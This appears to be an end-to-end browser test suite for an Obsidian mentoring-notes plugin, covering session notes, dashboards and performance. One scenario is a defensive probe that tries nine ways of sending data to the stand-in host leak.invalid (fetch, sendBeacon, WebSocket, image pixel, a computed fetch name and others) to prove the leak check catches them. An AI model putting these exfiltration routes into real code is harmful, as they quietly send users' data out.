// The browser tests: the BUILT main.js in real Chromium, with the Obsidian fake as the app and an
// in-memory copy of example-vault/. Each scenario gets a fresh page; any console error, page error or
// network request fails it. Prints one line per scenario ("skip" for those E2E_ONLY leaves out) and,
// last, "N passed, N failed" alone on its line (CI reads it).
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { setTimeout as delay } from "node:timers/promises";
import { buildHarness, exampleVaultFiles, findBrowser, isolatedContext, launchBrowser, leaks, openHarnessPage, releasedFiles, ROOT, tracedTasks } from "./browser.mjs";
import { dashboardScenarios } from "./scenarios-dashboard.mjs";
import { screenScenarios } from "./scenarios-screens.mjs";
import { assert, assertEqual, headingsOf, NOW, SETTINGS, startSession } from "./steps.mjs";

const SCENARIO_TIMEOUT_MS = 60_000;
const scenarios = [];
const scenario = (name, run) => scenarios.push({ name, run });

/** A page with the plugin loaded on the example vault, the clock at NOW. */
async function loadExample(env, options = {}) {
  const { mainJs } = releasedFiles();
  return env.page.evaluate(([js, files, opts]) => window.harness.loadPlugin(js, files, opts), [
    mainJs,
    exampleVaultFiles(),
    { now: NOW, settings: SETTINGS, ...options },
  ]);
}

scenario("main.js asks for no module but obsidian", async (env) => {
  const { mainJs, manifestJson } = releasedFiles();
  // The harness's require answers "obsidian" only: a bundle that needs Node is refused at load.
  const refused = await env.page.evaluate(
    ([manifest]) =>
      window.harness
        .loadPlugin('const fs = require("fs"); module.exports = class {};', { "manifest.json": manifest })
        .then(() => "loaded", (error) => error.message),
    [manifestJson],
  );
  assert(refused.includes('requires "fs"'), `a bundle requiring fs is refused (got: ${refused})`);
  const required = new Set([...mainJs.matchAll(/\brequire\(\s*["'`]([^"'`]+)["'`]\s*\)/g)].map((match) => match[1]));
  assertEqual([...required], ["obsidian"], "modules main.js requires");
  assert(!/\brequire\(\s*[^"'`\s)]/.test(mainJs), "main.js calls require with a computed name");
});

// The check every scenario ends with ("nothing leaves your vault") is only worth something if it bites: a
// page script that tries each way out is caught by it, in a context of its own.
scenario("the network and new-window check catches every way a page can send data out", async (env) => {
  const probe = await isolatedContext(env.browser);
  try {
    const { page } = await openHarnessPage(probe.context);
    const ways = {
      fetch: "https://leak.invalid/fetch",
      computedFetch: "https://leak.invalid/computed-fetch",
      sendBeacon: "https://leak.invalid/beacon",
      eventSource: "https://leak.invalid/events",
      dynamicImport: "https://leak.invalid/module.js",
      image: "https://leak.invalid/pixel.png",
      xhr: "https://leak.invalid/xhr",
      webSocket: "wss://leak.invalid/socket",
      windowOpen: "https://leak.invalid/popup",
    };
    await page.evaluate(async (urls) => {
      const attempts = [
        () => fetch(urls.fetch, { method: "POST", body: "a note" }),
        () => window["fe" + "tch"](urls.computedFetch),
        () => navigator.sendBeacon(urls.sendBeacon, "a note"),
        () => new EventSource(urls.eventSource),
        // eslint-disable-next-line no-unsanitized/method -- the probe tries a remote module on purpose
        () => import(urls.dynamicImport),
        () => Object.assign(new Image(), { src: urls.image }),
        () => {
          const xhr = new XMLHttpRequest();
          xhr.open("GET", urls.xhr);
          xhr.send();
        },
        () => new WebSocket(urls.webSocket),
        () => window.open(urls.windowOpen),
      ];
      for (const attempt of attempts) {
        try {
          await Promise.resolve(attempt()).catch(() => {});
        } catch {
          // A refused attempt is still an attempt: the routes saw it or the check below fails.
        }
      }
    }, ways);
    // Requests and windows are reported as the browser makes them: wait until every one has been seen (the
    // scenario's own timeout ends a wait for one that never comes, and the scenario fails).
    const missing = () => Object.entries(ways).filter(([, url]) => !probe.requests.includes(url)).map(([way]) => way);
    while (missing().length > 0 || probe.windows.length < 2) await delay(50);
    assertEqual(missing(), [], "ways out the check did not see");
    const found = leaks(probe);
    assert(found.some((line) => line.startsWith("network requests:")), "the check reports the requests");
    assert(found.some((line) => line.startsWith("new windows:")), `the check reports the popup (windows: ${probe.windows.length})`);
  } finally {
    await probe.context.close();
  }
});

scenario("loads the built plugin on the example vault", async (env) => {
  const { commands } = await loadExample(env);
  for (const id of ["start-session", "new-relationship", "insert-time-out", "close-session", "open-dashboard"]) {
    assert(commands.includes(`mentoring-notes:${id}`), `command ${id} is registered (have: ${commands.join(", ")})`);
  }
  assertEqual(await env.page.evaluate(() => window.harness.notices()), [], "notices after loading");
});

scenario("starts a session from the relationship picker", async (env) => {
  await loadExample(env);
  const path = await startSession(env.page, "Jane Doe");
  assertEqual(path, "Mentoring/Jane Doe/2026-11-22 Session 5.md", "the new session note");
  const text = await env.page.evaluate((p) => window.harness.read(p), path);
  for (const line of ["type: mentoring-session", "session: 5", "date: 2026-11-22", "status: open", "mentee: Jane Doe"]) {
    assert(text.split("\n").includes(line), `the note's frontmatter has "${line}"`);
  }
  assertEqual(headingsOf(text), ["Goals", "Since last time", "Before the meeting", "Topic", "Actions"], "headings of the new note");
  assert(text.includes("```mentoring-dashboard\nrelationship: Mentoring/Jane Doe"), "open actions are shown live, not copied");
});

scenario("inserts a time-out at the cursor", async (env) => {
  await loadExample(env);
  const path = await startSession(env.page, "Jane Doe");
  const page = env.page;
  await page.evaluate(() => window.harness.setCursorAfter("## Topic"));
  assert(await page.evaluate(() => window.harness.runCommand("insert-time-out")), "insert-time-out ran");
  const [picker] = await page.evaluate(() => window.harness.modals());
  assert(picker && picker.suggestions.length >= 3, "the time-out questions are offered");
  const question = picker.suggestions[0];
  await page.evaluate((q) => window.harness.chooseSuggestion(q), question);
  const [again] = await page.evaluate(() => window.harness.modals());
  assert(again && !again.suggestions.includes(question), "a picked question is not offered twice");
  await page.evaluate((s) => window.harness.chooseSuggestion(s), again.suggestions[0]);
  assertEqual(await page.evaluate(() => window.harness.modals()), [], "dialogs after inserting");
  const lines = (await page.evaluate((p) => window.harness.read(p), path)).split("\n");
  const at = lines.indexOf("> [!question] Time-out 10:00");
  assert(at > lines.indexOf("## Topic"), "the time-out callout is under Topic, stamped 10:00");
  assertEqual(lines[at + 1], `> ${question}`, "the picked question follows");
});

/** The mentor's end-of-meeting questions (English), as the closing dialog appends them: their own section, private by default. */
const END_OF_MEETING_MENTOR = [
  "",
  "## End of meeting (mentor)",
  "> [!private]",
  "> - What caught my interest most today?",
  "> \t- ",
  "> - What did I understand today that I had not seen before?",
  "> \t- ",
  "> - What did this meeting show me about myself as a mentor?",
  "> \t- ",
  "> - Where did I take over the conversation, and where did I leave room?",
  "> \t- ",
  "> - What will I do differently next time?",
  "> \t- ",
  "",
  "",
].join("\n");

/** `text` with each [was, now] replaced; each `was` must occur exactly once, so no change lands twice or nowhere. */
function replacedOnce(text, changes) {
  let out = text;
  for (const [was, now] of changes) {
    assertEqual(out.split(was).length, 2, `"${was.trim()}" occurs once in the note`);
    out = out.replace(was, () => now);
  }
  return out;
}

scenario("closes the session with the four headings", async (env) => {
  await loadExample(env);
  const path = await startSession(env.page, "Jane Doe");
  const page = env.page;
  await page.evaluate(() => {
    window.harness.setCursorAfter("## Topic");
    window.harness.type("\nSaying no, part two: Jane tried the “yes, if” answer twice. 🎉");
  });
  const before = await page.evaluate((p) => window.harness.read(p), path);
  assert(await page.evaluate(() => window.harness.runCommand("close-session")), "close-session ran");
  const [offer] = await page.evaluate(() => window.harness.modals());
  assert(offer?.title === "Session closed", "the closing dialog opens");
  await page.evaluate(() => window.harness.clickButton("Save"));
  const after = await page.evaluate((p) => window.harness.read(p), path);
  assertEqual(
    headingsOf(after),
    ["Goals", "Since last time", "Before the meeting", "Topic", "Summary", "Insights", "Ideas", "Actions", "End of meeting (mentor)"],
    "headings after closing",
  );
  const afterLines = after.split("\n");
  assert(afterLines.includes("status: closed") && !afterLines.includes("status: open"), "status is closed");
  assert(afterLines.includes("next: 2026-12-20"), "the next meeting is set 28 days on");
  assert(after.includes("\n## End of meeting (mentor)\n"), "the mentor's end-of-meeting questions were appended under their own heading");
  // The whole note, written out as changes to the note before closing: the topic from the Topic section,
  // `status: closed`, `next` 28 days (Jane's cadence) after the session's date, the three missing headings
  // with their prompts before Actions, and the questions picked in the dialog at the end. Every other byte kept.
  assert(before.includes("\nstatus: open\n") && !before.includes("\nnext:"), "the note was open, with no next date, before closing");
  const agreement = 'agreement: "[[Mentoring/Jane Doe/Agreement|Agreement]]"';
  const expected = replacedOnce(before, [
    ["\ntopic:\n", '\ntopic: "Saying no, part two: Jane tried the “yes, if” answer twice. 🎉"\n'],
    ["\nstatus: open\n", "\nstatus: closed\n"],
    [`\n${agreement}\n---\n`, `\n${agreement}\nnext: 2026-12-20\n---\n`],
    [
      "\n## Actions\n",
      [
        "",
        "## Summary",
        "<!-- Let the mentee sum up: what ground did we cover? -->",
        "",
        "## Insights",
        "<!-- What has become clearer, about the matter or about yourself? -->",
        "",
        "## Ideas",
        "<!-- Which ideas came up, even the half-formed ones? -->",
        "",
        "## Actions",
        "",
      ].join("\n"),
    ],
  ]);
  assertEqual(after, expected + END_OF_MEETING_MENTOR, "the closed note");
});

scenarios.push(...dashboardScenarios(loadExample));
scenarios.push(...screenScenarios(loadExample));

/** The Long Tasks limit: a task longer than this keeps the page from answering the user in time. */
const LONG_TASK_MS = 50;

scenario(`indexes a generated 10,000-note vault and opens the dashboard on it with no task over ${LONG_TASK_MS} ms of main-thread CPU time (opening: the middle of three)`, async (env) => {
  // Each task is measured by the page's main-thread CPU time in Chromium's trace, not by the clock: on a
  // machine that other processes keep busy the clock stretches every task (an 8 ms indexing slice was
  // seen at 68 ms), while the CPU time is the plugin's own work and is the same on an idle machine.
  const { mainJs, manifestJson } = releasedFiles();
  const describe = (tasks) => {
    const longest = (key) => Math.max(...tasks.map((task) => task[key])).toFixed(1);
    return `${tasks.length} tasks, the longest ${longest("cpuMs")} ms of CPU time (${longest("wallMs")} ms by the clock)`;
  };
  const overLimit = (tasks) => tasks.map((task) => Math.round(task.cpuMs)).filter((ms) => ms > LONG_TASK_MS);
  const indexing = await tracedTasks(env.browser, env.page, "mentoring-index", () =>
    env.page.evaluate(([js, manifest]) => window.harness.indexGeneratedVault(js, manifest, 20261122, 10_000), [mainJs, manifestJson]),
  );
  const run = indexing.result;
  env.log(`${run.notes} notes generated in ${run.generateMs} ms; indexed ${run.indexedNotes} notes (${run.relationships} relationships) in ${run.indexMs} ms: ${describe(indexing.tasks)}`);
  assertEqual(run.notes, 10_000, "notes generated");
  assertEqual(run.relationships, 200, "relationships indexed");
  assertEqual(overLimit(indexing.tasks), [], `tasks over ${LONG_TASK_MS} ms of CPU time (ms) while indexing`);
  // The view draws each relationship's first actions (a "Show N more" button for the rest), in slices.
  // It is opened three times, each a fresh view, and the limit holds for the middle one of the three
  // longest tasks: one opening's outlier (a garbage collection, or a core shared with another process
  // that slows even the CPU time) does not decide, and two openings over the limit fail.
  const longestPerOpening = [];
  for (let opening = 1; opening <= 3; opening += 1) {
    const traced = await tracedTasks(env.browser, env.page, "mentoring-dashboard", () => env.page.evaluate(() => window.harness.measureDashboardOpen()));
    const open = traced.result;
    env.log(`opening ${opening} of the dashboard drew ${open.drawnActions} of ${open.openActions} open actions (${open.showMoreButtons.length} "Show more" buttons) in ${open.ms} ms: ${describe(traced.tasks)}; Long Tasks API: ${open.longTasks.join(", ")}`);
    assert(open.openActions > 10_000, `the vault has over 10,000 open actions (${open.openActions})`);
    assertEqual(open.drawnActions, open.expectedRows, "action rows drawn (each relationship cut at its first batch)");
    assertEqual(open.showMoreButtons, open.expectedButtons, '"Show N more" buttons');
    longestPerOpening.push(Math.round(Math.max(...traced.tasks.map((task) => task.cpuMs))));
  }
  const middle = [...longestPerOpening].sort((a, b) => a - b)[1];
  assert(middle <= LONG_TASK_MS, `the longest task of each of three openings of the dashboard (${longestPerOpening.join(", ")} ms of CPU time): the middle one is over ${LONG_TASK_MS} ms`);
});

async function runScenario(browser, { name, run }) {
  const isolated = await isolatedContext(browser);
  const { context } = isolated;
  const logs = [];
  try {
    const { page, problems } = await openHarnessPage(context);
    const env = { page, context, browser, log: (line) => logs.push(line) };
    const stopTimer = new AbortController();
    const timeout = delay(SCENARIO_TIMEOUT_MS, null, { signal: stopTimer.signal }).then(() => {
      throw new Error(`timed out after ${SCENARIO_TIMEOUT_MS / 1000} s`);
    });
    timeout.catch(() => {});
    try {
      await Promise.race([run(env), timeout]);
    } finally {
      stopTimer.abort();
    }
    await page.evaluate(() => window.harness.settle(2));
    if (problems.length > 0) throw new Error(problems.join("\n"));
    const found = leaks(isolated);
    if (found.length > 0) throw new Error(found.join("\n"));
    return { ok: true, logs };
  } catch (error) {
    return { ok: false, logs, error: error instanceof Error ? error.message : String(error) };
  } finally {
    await context.close();
  }
}

async function main() {
  const started = Date.now();
  const version = JSON.parse(readFileSync(join(ROOT, "manifest.json"), "utf8")).version;
  await buildHarness();
  const found = await findBrowser();
  const browser = await launchBrowser(found);
  console.log(`Browser tests: main.js ${version} in Chromium ${browser.version()} (${found.source}: ${found.executablePath})`);
  const only = process.env.E2E_ONLY;
  let passed = 0;
  let failed = 0;
  try {
    for (const item of scenarios) {
      if (only && !item.name.includes(only)) {
        console.log(`skip ${item.name} (E2E_ONLY=${only})`);
        continue;
      }
      const scenarioStart = Date.now();
      const result = await runScenario(browser, item);
      const ms = Date.now() - scenarioStart;
      console.log(`${result.ok ? "ok  " : "FAIL"} ${item.name} (${ms} ms)`);
      for (const line of result.logs) console.log(`     ${line}`);
      if (result.ok) passed += 1;
      else {
        failed += 1;
        console.log(`     ${result.error.split("\n").join("\n     ")}`);
      }
    }
  } finally {
    await browser.close();
  }
  console.log(`Browser tests took ${((Date.now() - started) / 1000).toFixed(1)} s`);
  console.log(`${passed} passed, ${failed} failed`);
  process.exitCode = failed > 0 || passed === 0 ? 1 : 0;
}

await main();
